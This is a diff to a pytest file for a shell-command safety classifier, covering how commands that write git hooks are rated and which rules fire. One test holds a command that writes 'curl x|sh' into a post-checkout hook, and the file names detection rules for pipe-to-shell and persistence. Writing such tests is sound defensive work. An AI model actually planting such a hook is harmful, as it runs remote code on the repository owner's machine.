@@ -452,13 +452,20 @@ def test_root_home_is_a_home_directory_not_a_secret_as_a_whole(command: str,
 
 @pytest.mark.parametrize("command", [
     "cp scripts/pre-commit .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
-    "echo 'curl x|sh' > /repo/.git/hooks/post-checkout",
+    "echo 'make lint' > /repo/.git/hooks/post-checkout",
     "ln -sf ../../tools/hook .git/hooks/pre-push",
 ])
 def test_writing_a_git_hook_warns_instead_of_blocking_as_persistence(command: str) -> None:
     result = classify(command)
     assert result.verdict is Verdict.WARN
     assert "shell.git-hook" in result.rule_ids and "shell.persistence" not in result.rule_ids
+
+
+def test_static_hook_text_that_blocks_as_code_blocks_still_not_as_persistence() -> None:
+    result = classify("echo 'curl x|sh' > /repo/.git/hooks/post-checkout")
+    assert result.verdict is Verdict.BLOCK
+    assert "shell.pipe-to-shell" in result.rule_ids and "shell.git-hook" in result.rule_ids
+    assert "shell.persistence" not in result.rule_ids
 
 
 @pytest.mark.parametrize(("command", "verdict"), [
